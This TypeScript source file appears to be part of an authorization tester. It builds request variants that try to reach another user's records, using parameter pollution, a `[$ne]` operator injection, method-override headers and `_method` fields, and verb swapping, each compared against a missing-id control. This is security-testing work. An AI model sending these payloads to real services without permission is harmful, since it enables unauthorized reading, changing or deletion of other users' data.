import { parametersIn } from '../../../reading/routes/segments.js'
import { missing } from '../fixture/id-mapping.js'
import type { KnownPlaces } from '../fixture/shared-places.js'
import { singular } from '../synthesised/corpus.js'
import { inBody } from './bodies.js'
import { besideOwner, type Named, PLACES } from './named-owner.js'
import {
  type Aim,
  type AttackRequest,
  aimedAt,
  isRead,
  type Pair,
  type Payload,
  pairOf,
  pathWritten,
  withQuery,
} from './pair.js'
import { spelledIds } from './spellings.js'
import { withIds } from './swapped-ids.js'

/**
 * Returns every payload variant of a request that names rows of the owner; none if it names none.
 *
 * @param known the owner's keys
 * @param own returns the id of the second user's copy of a row; null: there are no copies
 */
export function payloadsOf(
  request: AttackRequest,
  known: KnownPlaces,
  owner: Named,
  own: ((id: string) => string) | null,
): Pair[] {
  const plain = withIds(request, known, (id) => id)
  if (!plain) return []
  const named = [...plain.ids.keys()]
  const aim: Aim = { request, known, named, inPath: plain.named.path, inBody: plain.named.body, own, owner }
  const payloads = [spelledIds, byVerb, twice, inBody, besideOwner].flatMap((of) => of(aim))
  return [
    ...payloads.flatMap((one) => pairOf(aim, one) ?? []),
    ...(own && named.length > 1 ? named.map((id) => mixed(request, known, id, own)) : []),
  ]
}

/**
 * Pairs a read of a user's own rows that names the owner as its sender with one that names a missing user.
 * The name must not matter. For writes see `smuggled`.
 */
export function namings(request: AttackRequest, owner: Named): Pair[] {
  if (!isRead(request)) return []
  const absent = { id: missing(owner.id), email: 'absent@example.com' }
  return Object.entries(PLACES).map(([where, name]) => ({
    name: `with the owner named ${where}`,
    foreign: name(request, owner),
    missing: name(request, absent),
    ids: new Map([[owner.id, absent.id]]),
    alike: true,
  }))
}

/**
 * Mixes one id of the owner with the sender's own ids: a foreign child under an own parent, and the other way
 * round.
 */
function mixed(
  request: AttackRequest,
  known: KnownPlaces,
  foreign: string,
  own: (id: string) => string,
): Pair {
  const among = (one: string): AttackRequest => ({
    ...request,
    ...withIds(request, known, (id) => (id === foreign ? one : own(id)))!.request,
  })
  return {
    name: `with the id ${foreign} among one's own`,
    foreign: among(foreign),
    missing: among(missing(foreign)),
    ids: new Map([[foreign, missing(foreign)]]),
    alike: true,
  }
}

/** Gives a parameter twice, or as a list or object: which value an app takes depends on its parser. */
function twice(aim: Aim): Payload[] {
  return [...inQuery(aim), ...besidePath(aim)]
}

const SHAPES: Record<string, (name: string, theirs: string, mine: string) => string> = {
  'after one’s own': (name, theirs, mine) => `${name}=${mine}&${name}=${theirs}`,
  'before one’s own': (name, theirs, mine) => `${name}=${theirs}&${name}=${mine}`,
  'in a list': (name, theirs) => `${name}[]=${theirs}`,
  'in a list with one’s own': (name, theirs, mine) => `${name}[]=${mine}&${name}[]=${theirs}`,
  'in a numbered list': (name, theirs, mine) => `${name}[0]=${mine}&${name}[1]=${theirs}`,
  'in an object': (name, theirs) => `${name}[id]=${theirs}`,
  'by an operator': (name, theirs) => `${name}[$ne]=${theirs}`,
  'with commas': (name, theirs, mine) => `${name}=${mine},${theirs}`,
}

/** If the query names a row. */
function inQuery(aim: Aim): Payload[] {
  const { own, request, known } = aim
  const [pathname, search] = request.path.split('?')
  if (!search || !own) return []
  const given = search.split('&').map((part) => part.split('=') as [string, string?])
  const named = given.filter(([name, value]) => value !== undefined && known.has(value, name))
  return named.flatMap(([name, id]) =>
    Object.entries(SHAPES).map(([how, shape]) => ({
      name: `in ${name} ${how}`,
      alike: isRead(request),
      make: (aimed) => {
        const rest = given.filter(([other]) => other !== name).map((part) => part.join('='))
        return { ...request, path: `${pathname}?${[...rest, shape(name, aimed(id!), own(id!))].join('&')}` }
      },
    })),
  )
}

/** Names the sender's own row in the path, and the owner's in the query or a body: the path must win. */
function besidePath(aim: Aim): Payload[] {
  const { own, request, named, inPath } = aim
  if (!own || !inPath) return []
  const segments = (request.route ?? '').split('/')
  const names = segments.flatMap((segment, at) => {
    const one = singular(segments[at - 1] ?? '')
    const own = parametersIn(segment)
    return own.length > 0 ? [...own, `${one}_id`, `${one}Id`] : []
  })
  if (!names.length) return []
  const all = [...new Set(['id', ...names])]
  const ownPath = pathWritten(aim, own)
  return [
    {
      name: 'in the query, next to the user’s own in the path',
      alike: isRead(request),
      make: (aimed) => ({
        ...aimedAt(aim, own),
        path: withQuery(ownPath, all.map((name) => `${name}=${aimed(named[0]!)}`).join('&')),
      }),
    },
  ]
}

const VERBS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']
/** Headers with which frameworks and proxies let a POST act as another verb. */
const OVERRIDES = ['x-http-method-override', 'x-http-method', 'x-method-override']

/** Sends the request with other verbs, openly or by an override. */
function byVerb(aim: Aim): Payload[] {
  if (!aim.inPath) return []
  const { method } = aim.request
  const open = VERBS.filter((verb) => verb !== method).map(
    (verb): Payload => ({
      name: `by ${verb}`,
      make: (aimed) => ({ ...aimedAt(aim, aimed), method: verb }),
    }),
  )
  const meant = (method === 'GET' ? ['GET'] : ['GET', method]).concat('DELETE')
  const overridden = [...new Set(meant)].flatMap((verb): Payload[] => [
    {
      name: `by POST that headers call ${verb}`,
      make: (aimed) => ({
        ...aimedAt(aim, aimed),
        method: 'POST',
        headers: Object.fromEntries(OVERRIDES.map((header) => [header, verb])),
      }),
    },
    {
      name: `by POST that the query calls ${verb}`,
      make: (aimed) => {
        const one = aimedAt(aim, aimed)
        return { ...one, method: 'POST', path: withQuery(one.path, `_method=${verb}`) }
      },
    },
    {
      name: `by POST that a form calls ${verb}`,
      make: (aimed) => ({
        ...aimedAt(aim, aimed),
        method: 'POST',
        request: { contentType: 'application/x-www-form-urlencoded', body: `_method=${verb}` },
      }),
    },
  ])
  return [...open, ...overridden]
}
